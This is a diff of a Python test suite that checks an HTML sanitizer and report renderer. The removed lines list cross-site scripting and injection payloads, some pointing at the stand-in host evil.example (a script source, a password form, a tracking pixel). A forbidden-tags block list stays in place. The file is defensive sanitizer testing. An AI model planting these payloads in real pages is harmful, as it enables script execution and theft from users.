@@ -18,34 +18,8 @@ from crm_lab.reports.cleaning import clean_html, markdown_html
 from crm_lab.reports.rendering import render_body
 from crm_lab.reports.staging import slug
 from crm_lab.reports.wording import VERDICTS, verdict_look
+from tests.reports import hostile
 
-HOSTILE_HTML = (
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><script>alert(1)</script></svg>",
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href=" jav\tascript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<base href="https://evil.example/">',
-    '<link rel=stylesheet href="https://evil.example/x.css">',
-    "<style>@import 'https://evil.example/x.css';</style>",
-    '<p style="background:url(https://evil.example/x)">x</p>',
-    '<iframe src="https://evil.example"></iframe>',
-    '<object data="https://evil.example"></object><embed src="https://evil.example">',
-    '<form action="https://evil.example"><input name=password></form>',
-    '<img src="https://evil.example/pixel.png">',
-    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pg==">',
-    '<video src="https://evil.example/x" autoplay></video>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "</table></div></main></body><script>alert(1)</script>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<details open ontoggle=alert(1)>x</details>",
-    '<div id="content" class="x" onclick=alert(1)>x</div>',
-    "<plaintext>x",
-    "<!--<img src=x onerror=alert(1)>-->",
-)
 FORBIDDEN_TAGS = {
     "script", "style", "meta", "base", "link", "iframe", "object", "embed", "form", "input",
     "svg", "math", "video", "audio", "template", "noscript", "plaintext",
@@ -81,14 +55,14 @@ def page(published: RunRecord) -> str:
     return published.html.read_text(encoding="utf-8")
 
 
-@pytest.mark.parametrize("source", HOSTILE_HTML)
+@pytest.mark.parametrize("source", hostile.EVERY)
 def test_hostile_html_is_inert(source: str) -> None:
     assert_inert(clean_html(source))
     assert_inert(markdown_html(source))
     assert "id=" not in clean_html(source)
 
 
-@pytest.mark.parametrize("source", HOSTILE_HTML)
+@pytest.mark.parametrize("source", hostile.EVERY)
 def test_hostile_outputs_leave_the_page_whole(source: str) -> None:
     outputs = [
         nbformat.v4.new_output("display_data", data={"text/html": source}),
@@ -120,7 +94,10 @@ def test_tables_keep_their_headers_and_get_a_box() -> None:
     html = render_body(nbformat.v4.new_notebook(cells=[cell])).html
     assert '<th scope="col" class="text">a</th><th scope="col">b</th>' in html
     assert '<td class="text">x</td><td>+1.2 % (0.3 to 2.1 %)</td>' in html
-    assert '<div class="table-box" tabindex="0" role="group" aria-label="Table"><table>' in html
+    assert (
+        '<div class="table-box" tabindex="0" role="group" aria-label="Table"><table class="pairs">'
+        in html
+    )
 
 
 def test_lights_carry_a_word_and_a_glyph() -> None:
@@ -133,7 +110,7 @@ def test_lights_carry_a_word_and_a_glyph() -> None:
     data = {"text/html": "<h4>T</h4><p>S.</p>", RESULT_MIME: payload}
     output = nbformat.v4.new_output("display_data", data=data)
     cell = nbformat.v4.new_code_cell("1", outputs=[output])
-    html = render_body(nbformat.v4.new_notebook(cells=[cell])).html
+    html = render_body(nbformat.v4.new_notebook(cells=[cell])).lead.lights
     assert '<span aria-hidden="true">✓</span>Sample ratio: passes &lt;b&gt;</li>' in html
     assert 'tone-neutral"><span aria-hidden="true">•</span>Power: weak' in html
     assert html.count("<li") == 2
@@ -225,7 +202,9 @@ def _contrast(one: str, two: str) -> float:
 
 def test_verdicts_differ_without_colour() -> None:
     looks = list(VERDICTS.values())
-    assert len({look.word for look in looks}) == len(looks)
+    shown = {look.word: (look.glyph, look.tone) for look in looks}
+    assert all(shown[look.word] == (look.glyph, look.tone) for look in looks)
+    assert len({(glyph, tone) for glyph, tone in shown.values()}) > 4
     assert all(look.glyph for look in looks)
     assert verdict_look("SHIP ").word == "Ship"
     assert verdict_look("roll back").word == "roll back"
@@ -242,13 +221,13 @@ def test_the_index_lists_every_run_even_a_broken_one(published: RunRecord, tmp_p
     runs = listed_runs(tmp_path)
     assert [run.run_id for run in runs] == ["broken", "run-2", "run-1", "run-0"]
     assert index.count("<tr data-kind") == 4
-    assert index.count('<li class="tile">') == 1
+    assert index.count('<li class="tile"') == 1
     assert '<h3><a href="runs/campaign/run-2/report.html">' in index
     assert "Boom: &lt;script&gt;" in index
     assert "The manifest of this run cannot be read." in index
     assert not re.search(r"<script>alert", index)
     links = [a["href"] or "" for a in Seen(index).named("a")]
-    assert all(link.startswith("runs/") for link in links)
+    assert all(link.startswith("runs/") or link in ("index.json", "feed.xml") for link in links)
 
 
 def test_the_script_of_the_index_is_the_one_its_policy_allows(
